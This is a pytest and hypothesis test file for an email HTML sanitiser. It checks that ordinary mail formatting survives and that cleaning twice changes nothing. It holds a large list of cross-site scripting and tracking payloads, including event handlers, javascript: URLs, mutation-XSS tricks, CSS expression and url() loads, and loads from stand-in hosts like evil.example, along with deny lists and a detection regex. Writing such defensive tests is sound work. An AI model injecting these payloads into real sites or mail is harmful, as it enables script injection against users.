"""The sanitiser: what mail needs survives, nothing that acts or loads does, and cleaning twice changes nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from chalicelib.mail.html import ATTRIBUTES, STYLES, TAGS, clean, clean_style
from chalicelib.mail.html_flatten import MAX_DEPTH, flatten

URL_ATTRIBUTES = {
    "href",
    "src",
    "data-remote-src",
    "background",
    "action",
    "formaction",
    "cite",
    "poster",
    "srcset",
    "ping",
}
_STYLE_FAULT = re.compile(
    r"(?:url|expression|image|image-set|element|cross-fade|paint|src|var|env|attr)\s*\(|behaviou?r|binding|[\\<>@{}]|/\*"
    r"|(?:^|;)\s*(?:position|z-index|content|filter|transform|cursor|background-image)\s*:",
    re.IGNORECASE,
)


class _Tags(HTMLParser):
    """A second opinion: the standard library's parser, which knows nothing of how the sanitiser sees HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def dangers(html: str) -> list[str]:
    """What in cleaned HTML could act or load by itself, as two independent parsers see it."""
    second = _Tags()
    second.feed(html)
    second.close()
    seen = [(tag, dict(attributes)) for tag, attributes in second.tags]
    root = LexborHTMLParser(f"<body>{html}").root
    assert root is not None
    tags = [(str(node.tag), dict(node.attributes)) for node in root.traverse()]
    seen += [each for each in tags if each[0] not in ("html", "head", "body", "-comment")]
    return [fault for tag, attributes in seen for fault in _faults(tag, attributes)]


def _faults(tag: str, attributes: dict[str, str | None]) -> list[str]:
    found = [] if tag in TAGS else [f"<{tag}>"]
    for name, value in attributes.items():
        value = value or ""
        if name.startswith("on") or name in ("id", "name", "srcdoc", "xlink:href"):
            found.append(f"{tag} {name}")
        if name in URL_ATTRIBUTES:
            folded = re.sub(r"[\x00-\x20]+", "", value).lower()
            schemes = ("cid:",) if name == "src" else ("http:", "https:", "mailto:", "tel:", "cid:")
            if not folded.startswith(schemes):
                found.append(f"{tag} {name}={value}")
        if name == "style" and _STYLE_FAULT.search(value):
            found.append(f"{tag} style={value}")
    return found


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img src="https://t.example/a.gif" srcset="https://t.example/b.gif 2x">',
    '<img src=" https://t.example/a.gif"><img src="ht\ntps://t.example/a.gif">',
    '<img src="//t.example/a"><img src="\\\\t.example\\a">',
    '<img src="cid:a@b" alt="<img src="><img src="https://t.example/<img src=" alt="<img src=">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "<body onload=alert(1) background=https://t.example/x>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg></p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)><applet code=x>",
    "<form action=https://evil.example><input type=submit formaction=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css); body{background:url(x)}</style>",
    "<p style='background:url(https://t.example/x)'>a</p>",
    "<p style='background:\\75rl(https://t.example/x)'>a</p>",
    "<p style='background-image:image-set(\"https://t.example/x\" 1x)'>a</p>",
    "<p style='width:expression(alert(1));behavior:url(x);-moz-binding:url(x)'>a</p>",
    "<p style='position:fixed;top:0;left:0;z-index:9;margin-top:-900px'>a</p>",
    "<p style='color:red/*;*/;background:url(x)'>a</p>",
    "<p style='--x:url(https://t.example);color:var(--x)'>a</p>",
    "<a href='javascript:alert(1)'>a</a><a href='JaVaScRiPt&colon;alert(1)'>a</a>",
    "<a href='java&#10;script:alert(1)'>a</a><a href='&#1;javascript:alert(1)'>a</a>",
    "<a href='vbscript:x'>a</a><a href='data:text/html,x'>a</a><a href='blob:x'>a</a>",
    "<a href=https://x.example><div><a href=https://x.example></div></a><a style=x href=' https://x.example'>a</a>",
    "<a href=https://x.example target=_blank ping=https://t.example onclick=alert(1)>a</a>",
    "<a id=x name=y href='#x'>a</a><img name=getElementById id=cookie>",
    "<video poster=https://t.example/x src=x><source src=x></video><audio src=x></audio><bgsound src=x>",
    "<table background=https://t.example/x><td background='javascript:alert(1)'>x</table>",
    "<input type=image src=https://t.example/x><isindex><keygen><marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details><select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]><?xml-stylesheet href=x?>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<div class='gmail_quote x' data-x=y>q</div>",
    "<img data-remote-src='javascript:alert(1)'><img data-remote-src='data:x'>",
    "<p title='\"><script>alert(1)</script>'>x</p><p title=`><script>alert(1)</script>`>x</p>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt><img src\x0c=x onerror\x0b=alert(1)>",
    "<html xmlns:x='http://x'><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("frame", ["{}", "<p>{}</p>", "<table><tr><td>{}", '<a title="{}">', "<!--{}", "{0}{0}"])
def test_nothing_that_acts_survives(payload: str, frame: str) -> None:
    cleaned = clean(frame.format(payload))
    assert dangers(cleaned) == []
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_acts_survives_in_large_mail(payload: str) -> None:
    cleaned = clean("<p>x</p>" * 400 + payload + "<div>" * 300)
    assert dangers(cleaned) == []
    assert clean(cleaned) == cleaned


def test_the_second_opinion_sees_dangers() -> None:
    for payload in PAYLOADS[:1] + PAYLOADS[3:5] + PAYLOADS[25:27]:
        assert dangers(payload)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<font face="Arial" size="2" color="#333">x</font>', '<font face="Arial" size="2" color="#333">x</font>'),
        ("<b>a<i>b</b>c</i>", "<b>a<i>b</i></b><i>c</i>"),
        ('<img src="cid:a@b" alt="A">', '<img src="cid:a@b" alt="A">'),
        ('<img src="CID:a@b">', '<img src="cid:a@b">'),
        (
            '<img src="https://x.example/a?b=1&c=2" width="3">',
            '<img data-remote-src="https://x.example/a?b=1&amp;c=2" width="3">',
        ),
        (
            '<td style="COLOR: Red; font-family: \'A B\', serif; width:calc(100% - 2px)" bgcolor="#fff">x</td>',
            "x",
        ),
        (
            "<p style=\"COLOR: Red; font-family: 'A B', serif; width:calc(100% - 2px)\">x</p>",
            "<p style=\"color:Red;font-family:'A B', serif;width:calc(100% - 2px)\">x</p>",
        ),
        ('<div class="gmail_quote big">x</div>', '<div class="gmail_quote">x</div>'),
        ('<blockquote type="cite" cite="mid:x">x</blockquote>', '<blockquote type="cite">x</blockquote>'),
        ('<a href="mailto:a@b.example">x</a>', '<a rel="noopener noreferrer nofollow" href="mailto:a@b.example">x</a>'),
        ("<custom>text stays</custom>", "text stays"),
        ("<h1>a</h1><hr><ol start=3><li>b</ol>", '<h1>a</h1><hr><ol start="3"><li>b</li></ol>'),
        ("1 < 2 & 3", "1 &lt; 2 &amp; 3"),
        ("", ""),
    ],
)
def test_what_mail_needs_survives(html: str, expected: str) -> None:
    assert clean(html) == expected


def test_tables_keep_their_attributes() -> None:
    table = (
        '<table width="100%" border="0" cellpadding="2" cellspacing="0"><tbody>'
        '<tr valign="top"><td colspan="2" nowrap="" bgcolor="#eee" style="padding:3px">x</td></tr></tbody></table>'
    )
    assert clean(table) == table


@pytest.mark.parametrize(
    ("style", "expected"),
    [
        ("color:red", "color:red"),
        ("color:red;;;", "color:red"),
        ("background:url(x);color:red", "color:red"),
        ("background: #fff", "background:#fff"),
        ("color:rgb(1, 2, 3)!important", "color:rgb(1, 2, 3)!important"),
        ("margin:-5px", None),
        ("margin:0 auto", "margin:0 auto"),
        ("position:absolute", None),
        ("width:expression(1)", None),
        ("color", None),
        ("color:\\72 ed", None),
        ("mso-line-height-rule:exactly", None),
    ],
)
def test_style(style: str, expected: str | None) -> None:
    assert clean_style(style) == expected


def test_the_allow_lists_hold_nothing_that_acts() -> None:
    assert not TAGS & {
        "script",
        "style",
        "form",
        "input",
        "iframe",
        "svg",
        "math",
        "object",
        "embed",
        "link",
        "meta",
        "base",
    }
    names = set().union(*ATTRIBUTES.values())
    assert not {name for name in names if name.startswith("on")} | (
        names & {"srcset", "background", "action", "id", "name"}
    )
    assert not STYLES & {"position", "z-index", "background-image", "content", "cursor", "filter", "transform"}


@given(st.text())
def test_any_text_is_clean_and_stays_so(html: str) -> None:
    cleaned = clean(html)
    assert dangers(cleaned) == []
    assert clean(cleaned) == cleaned


_PIECES = st.lists(
    st.sampled_from([*PAYLOADS, "<div>", "</div>", "<td>", "</table>", "<p", '"', "'", ">", "<!--", "-->", "x"]),
    max_size=12,
)


@given(_PIECES)
def test_any_mix_of_payloads_is_clean_and_stays_so(pieces: list[str]) -> None:
    cleaned = clean("".join(pieces))
    assert dangers(cleaned) == []
    assert clean(cleaned) == cleaned


@given(_PIECES)
def test_flattening_keeps_the_depth(pieces: list[str]) -> None:
    flat = flatten("<div><b>" * 300 + "".join(pieces))
    depth = deepest = 0
    for closing, name in re.findall(r"<(/?)([a-z0-9]+)", clean(flat)):
        if name not in ("br", "hr", "img", "wbr", "col"):
            depth += -1 if closing else 1
            deepest = max(deepest, depth)
    assert deepest <= 3 * MAX_DEPTH


def test_flattening_keeps_text_and_good_nesting() -> None:
    html = (
        "<p>one</p>" * 300
        + "<ul><li>a<ul><li>c<li>d</ul><li>b</ul><table><tr><td>x<td>y</table>"
        + "<div>" * 500
        + "deep"
    )
    assert clean(html).replace("<div>", "").replace("</div>", "") == (
        "<p>one</p>" * 300
        + "<ul><li>a<ul><li>c</li><li>d</li></ul></li><li>b</li></ul>"
        + "<table><tbody><tr><td>x</td><td>y</td></tr></tbody></table>deep"
    )
